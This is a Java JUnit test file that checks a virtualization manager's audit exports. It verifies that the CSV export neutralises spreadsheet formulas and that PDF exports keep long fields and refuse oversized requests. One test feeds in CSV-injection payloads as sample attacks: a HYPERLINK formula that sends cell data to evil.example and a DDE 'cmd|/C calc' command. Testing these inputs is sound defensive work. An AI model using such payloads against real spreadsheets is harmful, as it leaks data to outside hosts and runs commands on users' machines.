package org.carevisor.manager.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.carevisor.manager.Manager;
import org.carevisor.manager.ManagerConfig;
import org.carevisor.testkit.Http;
import org.carevisor.testkit.Lab;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Audit exports read back as files: the CSV neutralises every value a spreadsheet would run as a formula or
 * that starts with a control character, and the PDF holds every character of every field however long (read
 * back with PDFBox), characters its font cannot show written as escapes; a PDF larger than its bound is refused
 * before anything is sent, with a clear problem, while the CSV of the same records streams out.
 */
class AuditExportTest {
    @TempDir
    static Path dir;
    static Manager manager;
    static Http admin;

    @BeforeAll
    static void start() throws Exception {
        System.setProperty("carevisor.admin-password", Lab.ADMIN_PASSWORD);
        manager = Manager.start(ManagerConfig.parse(new String[] {"--data-dir", dir.resolve("manager").toString(), "--port", "0",
            "--agent-port", "0"}, Map.of()));
        admin = Http.forManager(dir.resolve("manager"), manager.port()).login(Lab.ADMIN, Lab.ADMIN_PASSWORD);
    }

    @AfterAll
    static void stop() {
        if (manager != null) {
            manager.close();
        }
    }

    /** Records a change through the API whose audit record carries {@code reason}. */
    private static void change(String reason) {
        admin.patch("/api/v1/clusters/default/ha", "{\"admissionControl\":false,\"reason\":"
                + Http.json().valueToTree(reason) + "}").expect(200);
    }

    @Test
    void csvNeutralisesFormulasAndLeadingControlCharacters() throws IOException {
        List<String> attacks = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1,2)", "\t=1+1 after a tab", "\r=1+1 after a carriage return", "\n@after a line feed",
                "plain reason, with a comma and \"quotes\"");
        for (String a : attacks) {
            change(a);
        }
        Path file = dir.resolve("export.csv");
        admin.download("/api/v1/audit/export?format=csv&action=cluster.ha-settings", file);
        List<List<String>> rows = csv(Files.readString(file, StandardCharsets.UTF_8));
        assertThat(rows.get(0)).containsExactly(AuditExport.CSV_HEADER);
        int reason = List.of(AuditExport.CSV_HEADER).indexOf("reason");
        List<String> reasons = rows.subList(1, rows.size()).stream().map(r -> r.get(reason)).toList();
        for (String a : attacks) {
            String expected = "=+-@\t\r\n".indexOf(a.charAt(0)) >= 0 ? "'" + a : a;
            assertThat(reasons).contains(expected);
        }
        // no cell of the file starts with a character a spreadsheet would act on
        for (List<String> row : rows) {
            for (String cell : row) {
                assertThat(cell.isEmpty() || "=+-@\t\r\n".indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
            }
        }
    }

    @Test
    void pdfWrapsLongValuesAndDropsNothing() throws IOException {
        String words = IntStream.range(0, 120).mapToObj(i -> String.format("w%04d", i)).collect(Collectors.joining(" "));
        String unbroken = "T" + "0123456789".repeat(25) + "T";
        String reason = "start " + words + " " + unbroken + " Zürich Ω 東京 🙂 end";
        assertThat(reason.length()).isLessThan(1000);
        change(reason);
        Path file = dir.resolve("export.pdf");
        var headers = admin.download("/api/v1/audit/export?format=pdf&action=cluster.ha-settings", file);
        assertThat(headers.firstValue("Content-Type").orElseThrow()).isEqualTo("application/pdf");
        String text = text(Files.readAllBytes(file));
        String expected = "start " + words + " " + unbroken + " Zürich \\u{3a9} \\u{6771}\\u{4eac} \\u{1f642} end";
        assertThat(squeeze(text)).contains(squeeze(expected));
        assertThat(text).contains("Hash chain:", "\\u{hex code}");
    }

    @Test
    void pdfHoldsEveryCharacterOfAFieldAsLongAsTheColumn() throws IOException {
        StringBuilder json = new StringBuilder("{\"disks\":[");
        for (int i = 0; json.length() < 99_000; i++) {
            json.append(i == 0 ? "" : ",").append("{\"id\":\"disk").append(i).append("\",\"path\":\"vms/x/disk")
                    .append(i).append(".qcow2\"}");
        }
        json.append("]}");
        AuditRecord r = new AuditRecord(7, Instant.parse("2026-11-01T08:00:00Z"), "olga", "u-1", "vm.update", "vm",
                "v-1", "ehr-db", null, json.toString(), "line one\r\nline two\ttabbed", "success", "10.0.0.7", null,
                new AuditRecord.SignatureView("Olga " + "Long-Name-".repeat(40), "approved",
                        Instant.parse("2026-11-01T08:00:01Z")), null, null);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        AuditExport.pdf(List.of(r), "Audit trail report", List.of("Query: user " + "x".repeat(600)), out);
        String text = text(out.toByteArray());
        assertThat(squeeze(text)).contains(squeeze("after: " + json), squeeze("Query: user " + "x".repeat(600)),
                squeeze("Olga " + "Long-Name-".repeat(40)), "linetwotabbed");
        assertThat(text).contains("line one").contains("line two tabbed");
    }

    @Test
    void aPdfAboveItsBoundIsRefusedBeforeAnythingIsSentAndTheCsvStreams() throws IOException {
        AuditLog writer = new AuditLog(manager.database().jdbi());
        manager.database().jdbi().useTransaction(h -> {
            for (int i = 0; i < 20_001; i++) {
                writer.record(h, new AuditLog.Entry(Actor.system("bulk"), "bulk.record", "vm", "v" + (i % 10), "n",
                        null, Map.of("i", i), "bulk " + i, AuditLog.Outcome.SUCCESS, null));
            }
        });
        Http.Response pdf = admin.get("/api/v1/audit/export?format=pdf&action=bulk.record&limit=30000");
        assertThat(pdf.status()).isEqualTo(400);
        assertThat(pdf.contentType()).startsWith("application/problem+json");
        assertThat(pdf.json().path("code").asText()).isEqualTo("export-too-large");
        assertThat(pdf.json().path("detail").asText()).contains("20001 records", "at most 20000", "format=csv");
        // a narrower PDF says that it holds only the first records
        Path first = dir.resolve("first.pdf");
        var headers = admin.download("/api/v1/audit/export?format=pdf&action=bulk.record&limit=40", first);
        assertThat(headers.firstValue("Carevisor-Records-Matching")).hasValue("20001");
        assertThat(headers.firstValue("Carevisor-Records-Exported")).hasValue("40");
        assertThat(squeeze(text(Files.readAllBytes(first)))).contains(squeeze("the first 40 of 20001 matching records"));
        // the CSV of all of them
        Path csv = dir.resolve("bulk.csv");
        headers = admin.download("/api/v1/audit/export?format=csv&action=bulk.record&limit=1000000", csv);
        assertThat(headers.firstValue("Carevisor-Records-Exported")).hasValue("20001");
        List<List<String>> rows = csv(Files.readString(csv));
        assertThat(rows).hasSize(20_002);
        assertThat(rows.get(20_001).get(List.of(AuditExport.CSV_HEADER).indexOf("reason"))).isEqualTo("bulk 20000");
    }

    /** The text of a PDF without the page footers (which stand between the pages' text). */
    private static String text(byte[] pdf) throws IOException {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            String text = new PDFTextStripper().getText(doc);
            assertThat(text).contains("page 1 of " + doc.getNumberOfPages());
            return text.lines().filter(l -> !l.matches("Carevisor audit trail - .* - page \\d+ of \\d+"))
                    .collect(Collectors.joining("\n"));
        }
    }

    /** The text without any white space (lines are broken at spaces and inside long words). */
    private static String squeeze(String s) {
        return s.replaceAll("\\s+", "");
    }

    /** An RFC 4180 reader: quoted fields may hold commas, quotes and line breaks. */
    static List<List<String>> csv(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        assertThat(quoted).as("unterminated quoted field").isFalse();
        assertThat(field.isEmpty() && row.isEmpty()).as("the file ends with CRLF").isTrue();
        return rows;
    }
}
